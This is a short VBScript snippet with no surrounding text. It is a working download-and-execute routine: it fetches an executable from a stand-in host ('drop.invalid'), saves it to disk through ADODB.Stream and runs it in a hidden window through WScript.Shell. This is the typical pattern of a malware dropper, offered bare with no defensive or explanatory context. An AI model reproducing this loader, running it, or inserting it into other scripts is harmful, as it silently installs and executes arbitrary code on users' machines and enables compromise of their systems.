Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://drop.invalid/a.exe", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1: s.Open: s.Write x.responseBody: s.SaveToFile "a.exe"
CreateObject("WScript.Shell").Run "a.exe", 0
